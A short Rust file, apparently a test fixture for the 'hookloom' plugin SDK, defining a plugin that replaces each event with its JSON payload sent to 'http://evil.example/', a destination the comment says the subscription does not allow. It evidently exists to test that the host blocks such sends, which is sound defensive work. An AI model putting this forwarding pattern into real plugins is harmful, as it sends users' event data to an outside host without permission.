//! Sends to a host that the subscription does not allow.

use hookloom_sdk::{Event, Failure, Outgoing, Plugin, Verdict, export};

struct Guest;

impl Plugin for Guest {
    fn transform(event: &Event) -> Result<Verdict, Failure> {
        Ok(Verdict::Replace(Outgoing::json(&event.json()?).to("http://evil.example/")))
    }
}

export!(Guest);
